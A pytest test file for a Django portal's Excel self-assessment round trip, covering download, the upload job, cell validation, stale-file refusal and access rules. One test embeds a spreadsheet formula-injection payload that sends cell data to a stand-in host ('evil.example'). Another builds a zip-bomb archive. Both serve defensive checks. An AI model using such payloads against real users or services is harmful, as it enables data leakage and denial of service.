"""The offline round trip of the self-assessment: the form downloaded as a pre-filled workbook (dropdowns, targets,
hidden keys and versions), filled without the portal and uploaded: the form's own checks per cell, nothing saved
unless every cell is valid, a stale file refused, hostile files refused, and only those who fill the form in may
upload it. The upload is a background job (reform_portal.jobs): here the task's body runs in the test, as the
progress workbook's tests do; tests/jobs/test_assessment_workbook_worker.py runs it through a real worker."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from measures.choices import IndicatorKind, Status
from measures.models import plain_number
from reform_portal.choices import ChangeSource
from reform_portal.jobs.models import Job
from reporting.assessments import services
from reporting.assessments.choices import SelfRating
from reporting.assessments.models import AssessmentIndicator, AssessmentItem, AssessmentItemEvent
from reporting.assessments.services.values import REQUIRED, answer_role, applicable_ids
from tests.hostile_files import Repeated, sheet, xlsx_with_sheet
from tests.jobs.helpers import follow_job

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RATING, STATUS, PERCENT, WHAT_DONE, VALUE, TARGET, KEY, VERSION = "D", "E", "F", "G", "H", "I", "L", "M"


def download(client, user, assessment):
    client.force_login(user)
    response = client.get(reverse("reporting:assessments:workbook", args=[assessment.pk]))
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def upload(client, user, assessment, wb, follow=True):
    buffer = io.BytesIO()
    wb.save(buffer)
    return upload_bytes(client, user, assessment, buffer.getvalue(), follow=follow)


def upload_bytes(client, user, assessment, data, name="自评表.xlsx", follow=True):
    """Upload on the form's page and, when the page hands the file to a job, run the job and open the page the user
    lands on: the form once the file is saved (with what was saved and, as after a refused submission, what is still
    missing), or the job's page when it was refused (its context["result"] lists each problem)."""
    client.force_login(user)
    response = client.post(
        reverse("reporting:assessments:workbook_upload", args=[assessment.pk]),
        {"workbook": SimpleUploadedFile(name, data, content_type=XLSX)},
    )
    return follow_upload(client, response) if follow else response


def follow_upload(client, response):
    page = follow_job(client, response)
    if page.status_code == 302 and "?workbook=" in page["Location"]:  # saved: back to the form
        return client.get(page["Location"])
    return page


def rows_by_key(ws) -> dict[str, int]:
    """{"item:12": row number, "indicator:7": …} from the hidden key column."""
    return {ws[f"{KEY}{r}"].value: r for r in range(4, ws.max_row + 1) if ws[f"{KEY}{r}"].value}


def snapshot(assessment):
    items = list(
        AssessmentItem.objects.filter(assessment=assessment)
        .order_by("pk")
        .values_list("self_rating", "claimed_status", "claimed_percent", "what_done", "version", "carried_over")
    )
    answers = list(
        AssessmentIndicator.objects.filter(assessment=assessment)
        .order_by("pk")
        .values_list("claimed_value", "claimed_text", "version", "carried_over")
    )
    return items, answers


def asked_answers(assessment):
    applicable = applicable_ids(assessment.enterprise)
    return [
        a
        for a in assessment.indicator_answers.select_related("indicator")
        if answer_role(a.indicator, applicable) == REQUIRED
    ]


FILLED = {
    IndicatorKind.BOOLEAN: "是",
    IndicatorKind.COUNT: 3,
    IndicatorKind.SHARE: 75,
    IndicatorKind.DATE: "2024-03-01",
}


def fill_all(ws, assessment):
    """Every measure: 较好, 推进中, 60%, a line of work; every asked indicator: a value of its kind (as typed in a
    spreadsheet: a number, 是, a date's text)."""
    rows = rows_by_key(ws)
    for item in assessment.items.all():
        r = rows[f"item:{item.pk}"]
        ws[f"{RATING}{r}"], ws[f"{STATUS}{r}"] = "较好", "推进中"
        ws[f"{PERCENT}{r}"], ws[f"{WHAT_DONE}{r}"] = 60, f"{item.pk} 号措施：开展了职工培训"
    for answer in asked_answers(assessment):
        ws[f"{VALUE}{rows[f'indicator:{answer.pk}']}"] = FILLED.get(answer.indicator.kind, "《职工培训管理办法》")


# ---- the download ------------------------------------------------------------------------------------------------


def test_the_download_is_the_pre_filled_form_with_dropdowns_targets_and_hidden_keys(client, draft, users):
    # given a draft pre-filled from the current progress (docs/assessment-form.md)
    user = users["enterprise-yn"]
    item = draft.items.select_related("measure").order_by("pk").first()
    services.item_save(item=item, by=user, self_rating="good", what_done="建了制度", status="in_progress", percent=40)

    # when the enterprise downloads it
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    rows = rows_by_key(ws)

    # then the form's key and version are in the first row, every measure and asked indicator has a row with its key
    # and version, pre-filled with the current answer
    assert ws[f"{KEY}1"].value == f"assessment:{draft.pk}" and ws[f"{VERSION}1"].value == draft.version
    item.refresh_from_db()
    r = rows[f"item:{item.pk}"]
    assert (ws[f"{RATING}{r}"].value, ws[f"{STATUS}{r}"].value, ws[f"{PERCENT}{r}"].value) == ("好", "推进中", 40)
    assert ws[f"{WHAT_DONE}{r}"].value == "建了制度" and ws[f"{VERSION}{r}"].value == item.version
    assert {f"item:{i.pk}" for i in draft.items.all()} <= set(rows)
    for answer in asked_answers(draft):
        r = rows[f"indicator:{answer.pk}"]
        target = answer.indicator
        expected = f"{target.get_comparison_display()} {plain_number(target.target)}{target.display_unit}"
        assert ws[f"{TARGET}{r}"].value == target.target_display == expected.strip() or target.comparison == "true"
        assert ws[f"{VERSION}{r}"].value == answer.version
    # dropdowns for the ratings, the statuses and 是/否; the keys hidden; the sheet protected, answers unlocked
    lists = {dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
    assert '"好,较好,一般,差"' in lists and '"未启动,推进中,已完成,常态化推进"' in lists
    booleans = [a for a in asked_answers(draft) if a.indicator.kind == IndicatorKind.BOOLEAN]
    if booleans:
        assert '"是,否"' in lists
    assert ws.column_dimensions[KEY].hidden and ws.column_dimensions[VERSION].hidden
    assert ws.protection.sheet
    r = rows[f"item:{item.pk}"]
    assert not ws[f"{RATING}{r}"].protection.locked and ws[f"B{r}"].protection.locked


def test_a_derived_indicator_is_shown_from_the_register_without_a_key(client, draft, users):
    from measures.derived import derived_value
    from measures.indicator_values import value_display
    from reporting.assessments.services.values import DERIVED

    applicable = applicable_ids(draft.enterprise)
    derived = [
        a
        for a in draft.indicator_answers.select_related("indicator")
        if answer_role(a.indicator, applicable) == DERIVED
    ]
    assert derived  # the Yunnan catalogue derives some from the register (union founded, membership rate)
    ws = download(client, users["enterprise-yn"], draft).worksheets[0]
    by_code = {ws[f"B{r}"].value: r for r in range(4, ws.max_row + 1)}
    for answer in derived:
        r = by_code[answer.indicator.code]
        expected = value_display(answer.indicator, derived_value(answer.indicator, draft.enterprise)) or None
        assert ws[f"{VALUE}{r}"].value == expected and ws[f"{KEY}{r}"].value is None
        assert ws[f"{VALUE}{r}"].protection.locked


def test_a_formula_typed_as_an_answer_stays_text_both_ways(client, draft, users):
    user = users["enterprise-yn"]
    item = draft.items.order_by("pk").first()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    services.item_save(item=item, by=user, self_rating="good", what_done=formula, status="in_progress", percent=10)

    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    cell = ws[f"{WHAT_DONE}{rows_by_key(ws)[f'item:{item.pk}']}"]
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == formula  # a text cell, not a formula

    # uploaded back (with another answer changed), the text is kept as text
    other = draft.items.order_by("pk")[1]
    ws[f"{PERCENT}{rows_by_key(ws)[f'item:{other.pk}']}"] = 0
    ws[f"{STATUS}{rows_by_key(ws)[f'item:{other.pk}']}"] = "未启动"
    response = upload(client, user, draft, wb)
    assert response.status_code in (200, 302)
    item.refresh_from_db()
    assert item.what_done == formula


# ---- the upload ------------------------------------------------------------------------------------------------


def test_a_filled_workbook_is_saved_and_the_form_is_complete(client, draft, users):
    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    fill_all(wb.worksheets[0], draft)

    response = upload(client, user, draft, wb)

    # back on the form, which says what was saved and that it is complete
    assert response.status_code == 200, response.content.decode()[:2000]
    assert response.context["workbook_outcome"].ok and not response.context["problems"]
    saved = response.context["workbook_outcome"].saved
    assert saved == draft.items.count() + len(asked_answers(draft))
    same = len(rows_by_key(wb.worksheets[0])) - saved  # the optional (仅统计) answers left empty
    page = response.content.decode()
    assert (
        f"已从 Excel 保存 {saved} 项答案（{same} 项与网页上相同，未改动）。" in page
        and "自评表已填写完整，可以提交。" in page
    )
    for item in draft.items.all():
        assert (item.self_rating, item.claimed_status, item.claimed_percent) == (
            SelfRating.FAIRLY_GOOD,
            Status.IN_PROGRESS,
            60,
        )
        assert item.what_done == f"{item.pk} 号措施：开展了职工培训" and not item.carried_over
    for answer in asked_answers(draft):
        answer.refresh_from_db()
        kind = answer.indicator.kind
        if kind == IndicatorKind.BOOLEAN:
            assert answer.claimed_value == 1
        elif kind in (IndicatorKind.COUNT, IndicatorKind.SHARE):
            assert answer.claimed_value == FILLED[kind]
        elif kind == IndicatorKind.DATE:
            assert answer.claimed_text == "2024-03-01"
    # complete, as the submission judges it; the history says who and from where
    assert services.assessment_problems(assessment=draft) == []
    event = AssessmentItemEvent.objects.filter(pgh_obj__assessment=draft).order_by("-pgh_id").first()
    assert event.changed_by == user and event.source == ChangeSource.ASSESSMENT
    services.assessment_submit(assessment=draft, by=user)


def test_one_bad_cell_is_reported_at_its_cell_and_nothing_is_saved(client, draft, users):
    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    fill_all(ws, draft)
    bad = draft.items.select_related("measure").order_by("pk")[2]
    r = rows_by_key(ws)[f"item:{bad.pk}"]
    ws[f"{PERCENT}{r}"] = 150
    before = snapshot(draft)

    response = upload(client, user, draft, wb)

    # the job's page: each problem at its sheet, row and column, nothing saved
    result = response.context["result"]
    assert response.status_code == 200 and not result.ok and not result.stale
    problems = result.problems
    assert [(p.sheet, p.row, p.letter, p.column, p.label) for p in problems] == [
        ("自评表", r, PERCENT, "完成百分比", bad.measure.code)
    ]
    assert str(problems[0]) == f"第 {r} 行 F 列：完成百分比应在 0 到 100 之间。"
    page = response.content.decode()
    assert f"第 {r} 行 F 列：完成百分比应在 0 到 100 之间。" in page and f'data-cell="{PERCENT}{r}"' in page
    assert snapshot(draft) == before  # not one of the other (valid) rows was saved
    # the way back to the form lists them again above the upload
    back = response.context["result"].back
    job = response.context["job"]
    again = client.get(f"{back}?workbook={job.pk}")
    assert [(p.row, p.letter) for p in again.context["workbook_problems"]] == [(r, PERCENT)]
    assert 'id="workbook-problems"' in again.content.decode()


def test_the_cells_are_judged_by_the_forms_rules(client, draft, users):
    # the same messages as the page's autosave (services.item_save, indicator_save): status and percent must agree,
    # a rating not in the list, a share over 100, a percent that is not a whole number
    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    rows = rows_by_key(ws)
    items = list(draft.items.order_by("pk"))
    ws[f"{STATUS}{rows[f'item:{items[0].pk}']}"], ws[f"{PERCENT}{rows[f'item:{items[0].pk}']}"] = "未启动", 50
    ws[f"{RATING}{rows[f'item:{items[1].pk}']}"] = "优秀"
    ws[f"{PERCENT}{rows[f'item:{items[2].pk}']}"] = 60.5
    shares = [a for a in asked_answers(draft) if a.indicator.kind == IndicatorKind.SHARE]
    ws[f"{VALUE}{rows[f'indicator:{shares[0].pk}']}"] = 130
    expected_errors = {}
    for item, (status, percent, rating) in zip(
        items[:3], (("not_started", "50", ""), ("", "", "优秀"), ("", "60.5", "")), strict=True
    ):
        try:
            services.item_save(item=item, by=user, self_rating=rating, what_done="", status=status, percent=percent)
        except Exception as exc:  # noqa: BLE001
            expected_errors[rows[f"item:{item.pk}"]] = exc.message_dict
    before = snapshot(draft)

    response = upload(client, user, draft, wb)

    assert not response.context["result"].ok
    found = {(p.row, p.letter): p.message for p in response.context["result"].problems}
    letters = {"status": STATUS, "percent": PERCENT, "self_rating": RATING}
    for row, errors in expected_errors.items():
        for field, messages in errors.items():
            assert found[(row, letters[field])] == messages[0]
    assert "比例应在 0 到 100 之间" in found[(rows[f"indicator:{shares[0].pk}"], VALUE)]
    assert snapshot(draft) == before


def test_a_file_older_than_an_edit_on_the_page_is_refused_and_nothing_saved(client, draft, users):
    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    fill_all(ws, draft)
    # meanwhile the same answer is changed on the page
    item = draft.items.select_related("measure").order_by("pk").first()
    services.item_save(item=item, by=user, self_rating="poor", what_done="网页上改的", status="in_progress", percent=5)
    before = snapshot(draft)

    response = upload(client, user, draft, wb)

    result = response.context["result"]
    assert not result.ok and result.stale
    assert "下载后自评表在网页上被修改过" in response.content.decode()
    stale = [p for p in result.problems if "被修改" in p.message]
    assert [p.row for p in stale] == [rows_by_key(ws)[f"item:{item.pk}"]]
    assert snapshot(draft) == before
    item.refresh_from_db()
    assert item.what_done == "网页上改的"


def test_a_file_from_before_a_return_is_refused_as_stale(client, submitted, users):
    user = users["enterprise-yn"]
    officer = users["officer-yn"]
    item = submitted.items.order_by("pk").first()
    services.review_item_save(item=item, by=officer, verified_status="", verified_percent="", comment="请补充")
    services.assessment_return(assessment=submitted, by=officer, comment="请补充")
    submitted.refresh_from_db()
    wb = download(client, user, submitted)
    ws = wb.worksheets[0]
    ws[f"{VERSION}1"] = submitted.version - 1  # as a file downloaded before the return

    response = upload(client, user, submitted, wb)

    assert response.context["result"].stale and "未保存任何内容" in response.content.decode()


def test_a_partly_filled_file_is_saved_and_the_form_shows_what_is_missing(client, draft, users):
    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    item = draft.items.select_related("measure").order_by("pk").first()
    r = rows_by_key(ws)[f"item:{item.pk}"]
    ws[f"{RATING}{r}"], ws[f"{STATUS}{r}"], ws[f"{PERCENT}{r}"] = "一般", "推进中", 30

    response = upload(client, user, draft, wb)

    assert response.status_code == 200
    item.refresh_from_db()
    assert (item.self_rating, item.claimed_status, item.claimed_percent) == ("average", "in_progress", 30)
    # the completeness check, as after a refused submission: the same problems, listed and marked
    assert [p.message for p in response.context["problems"]] == [
        p.message for p in services.assessment_problems(assessment=draft)
    ]
    assert 'id="problems"' in response.content.decode()


def test_a_zip_bomb_is_refused_by_the_workbook_reader(client, draft, users):
    shared = Repeated(prefix=b'<sst xmlns="x"><si><t>', chunk=b"A" * 1024 * 1024, count=300, suffix=b"</t></si></sst>")
    bomb = xlsx_with_sheet(
        sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "A1"), **{"xl/sharedStrings.xml": shared}
    )
    assert len(bomb) < 1024 * 1024
    before = snapshot(draft)

    response = upload_bytes(client, users["enterprise-yn"], draft, bomb)

    # refused by the page's checks (the archive's members), before anything is stored
    assert response.status_code == 400
    assert response.context["workbook_problems"] and snapshot(draft) == before
    assert not Job.objects.exists()


def test_a_file_that_is_not_this_forms_download_is_refused(client, draft, users):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    response = upload_bytes(client, users["enterprise-yn"], draft, buffer.getvalue())
    assert response.status_code == 400 and not Job.objects.exists()  # not an .xlsx: refused by the page
    wb = download(client, users["enterprise-yn"], draft)
    wb.worksheets[0][f"{KEY}1"] = f"assessment:{draft.pk + 1000}"
    response = upload(client, users["enterprise-yn"], draft, wb)
    assert not response.context["result"].ok and "另一份自评表" in response.content.decode()


# ---- who -------------------------------------------------------------------------------------------------------


def test_only_those_who_fill_the_form_in_upload_it_and_others_never_reach_it(client, draft, users):
    wb = download(client, users["enterprise-yn"], draft)
    fill_all(wb.worksheets[0], draft)
    before = snapshot(draft)
    # another province's enterprise: neither the download nor the upload exists for it
    client.force_login(users["enterprise-sx"])
    assert client.get(reverse("reporting:assessments:workbook", args=[draft.pk])).status_code == 404
    assert upload(client, users["enterprise-sx"], draft, wb).status_code == 404
    # the officer in charge reads it (downloads) but does not fill it in (access.AssessmentPolicy.EDIT)
    download(client, users["officer-yn"], draft)
    assert upload(client, users["officer-yn"], draft, wb).status_code == 403
    assert snapshot(draft) == before


def test_a_submitted_form_takes_no_upload(client, submitted, users):
    wb = download(client, users["enterprise-yn"], submitted)
    before = snapshot(submitted)
    response = upload(client, users["enterprise-yn"], submitted, wb)
    assert response.status_code == 302 and snapshot(submitted) == before
    assert response["Location"] == reverse("reporting:assessments:detail", args=[submitted.pk])
    assert not Job.objects.exists()  # refused before the file is stored


# ---- the upload as a job -----------------------------------------------------------------------------------------


def test_the_page_answers_at_once_with_a_job_and_the_user_is_brought_back_to_the_form(client, draft, users):
    from reform_portal.outbox.models import OutboxMessage
    from tests.jobs.helpers import run_job

    user = users["enterprise-yn"]
    wb = download(client, user, draft)
    fill_all(wb.worksheets[0], draft)
    before = snapshot(draft)

    response = upload(client, user, draft, wb, follow=False)

    # the page stored the file under a job and wrote nothing
    job = Job.objects.get(owner=user)
    assert response.status_code == 302 and response["Location"] == reverse("jobs:detail", args=[job.pk]) + "?then=1"
    assert job.kind == Job.Kind.ASSESSMENT_WORKBOOK and job.status == Job.Status.QUEUED and job.upload
    assert job.parameters["assessment"] == draft.pk
    assert OutboxMessage.objects.filter(task="reform_portal.jobs.tasks.assessment_workbook_job").exists()
    assert snapshot(draft) == before
    waiting = client.get(response["Location"])  # the job's page polls while it waits
    assert waiting.status_code == 200 and 'hx-trigger="every 2s"' in waiting.content.decode()
    assert client.get(reverse("jobs:detail", args=[job.pk]), headers={"HX-Request": "true"}).status_code == 200

    # when a worker has run it
    job = run_job(job.pk)
    assert job.status == Job.Status.SUCCEEDED and job.summary["ok"] and not job.upload  # the file is not kept
    rows = draft.items.count() + len(asked_answers(draft))
    keyed = len(rows_by_key(wb.worksheets[0]))  # every answer's row is judged (progress: one per row)
    assert (job.done, job.total) == (keyed, keyed) and job.summary["saved"] == rows
    assert snapshot(draft) != before
    form = reverse("reporting:assessments:detail", args=[draft.pk]) + f"?workbook={job.pk}"
    # the page's poll takes the user back to the form; so does the page the upload sent them to
    poll = client.get(reverse("jobs:detail", args=[job.pk]), headers={"HX-Request": "true"})
    assert poll["HX-Redirect"] == form
    assert client.get(response["Location"])["Location"] == form
    # opened later (我的任务), the job's page shows what was saved and the way back
    later = client.get(reverse("jobs:detail", args=[job.pk]))
    assert later.status_code == 200 and f"已从 Excel 保存 {rows} 项答案" in later.content.decode()
    assert f'href="{form}"' in later.content.decode()
    # another user's job is none of theirs: its outcome is not shown on the form
    client.force_login(users["officer-yn"])
    page = client.get(form)
    assert page.status_code == 200 and page.context["workbook_outcome"] is None


def test_a_form_submitted_while_the_file_waits_is_left_as_submitted(client, draft, users):
    from tests.jobs.helpers import run_job
    from tests.reporting.assessments.conftest import fill_complete

    user = users["enterprise-yn"]
    fill_complete(draft, user)
    draft.refresh_from_db()
    wb = download(client, user, draft)
    ws = wb.worksheets[0]
    item = draft.items.order_by("pk").first()
    ws[f"{PERCENT}{rows_by_key(ws)[f'item:{item.pk}']}"] = 70
    response = upload(client, user, draft, wb, follow=False)
    services.assessment_submit(assessment=draft, by=user)  # before a worker takes the job
    before = snapshot(draft)

    job = run_job(Job.objects.get(owner=user).pk)

    assert job.status == Job.Status.SUCCEEDED and not job.summary["ok"]
    assert [p["message"] for p in job.summary["problems"]] == ["自评表已提交，等待审核，不能再修改。"]
    assert snapshot(draft) == before and response.status_code == 302


def test_the_job_costs_the_same_number_of_queries_for_a_small_and_a_large_form(client, draft, users, monkeypatch):
    import functools

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reform_portal.jobs import services as job_services
    from tests.jobs.helpers import run_job

    # the progress row is written when the total is known and at the end, not by the clock (a loaded machine)
    monkeypatch.setattr(job_services, "ProgressMeter", functools.partial(job_services.ProgressMeter, clock=lambda: 0.0))
    user = users["enterprise-yn"]

    def upload_all(percent: int) -> tuple[int, int]:
        """Every answer of the form changed by a file: (answers saved, statements of the whole job)."""
        wb = download(client, user, draft)
        ws = wb.worksheets[0]
        fill_all(ws, draft)
        rows = rows_by_key(ws)
        for item in draft.items.all():
            ws[f"{PERCENT}{rows[f'item:{item.pk}']}"] = percent
            ws[f"{WHAT_DONE}{rows[f'item:{item.pk}']}"] = f"第 {percent} 次上传"
        for answer in asked_answers(draft):  # a value of its kind other than the last upload's
            ws[f"{VALUE}{rows[f'indicator:{answer.pk}']}"] = {
                IndicatorKind.BOOLEAN: "是" if percent % 20 else "否",
                IndicatorKind.COUNT: percent,
                IndicatorKind.SHARE: percent,
                IndicatorKind.DATE: f"2024-03-{percent // 10:02d}",
            }.get(answer.indicator.kind, f"第 {percent} 次上传的制度")
        response = upload(client, user, draft, wb, follow=False)
        job_id = int(response["Location"].split("?")[0].rstrip("/").rsplit("/", 1)[1])
        with CaptureQueriesContext(connection) as queries:
            job = run_job(job_id)
        assert job.summary["ok"], job.summary
        return job.summary["saved"], len(queries)

    upload_all(10)  # warm: the user's reach, content types
    large, large_queries = upload_all(20)
    every = draft.items.count() + len(asked_answers(draft))  # every measure and asked indicator changed
    # the same form cut down to two measures (and their indicators)
    keep = list(draft.items.order_by("pk").values_list("measure_id", flat=True)[:2])
    AssessmentIndicator.objects.filter(assessment=draft).exclude(indicator__measure_id__in=keep).delete()
    AssessmentItem.objects.filter(assessment=draft).exclude(measure_id__in=keep).delete()
    small, small_queries = upload_all(30)

    assert large == every and large > 4 * small and small >= 2
    assert small_queries == large_queries <= 40, (small_queries, large_queries)
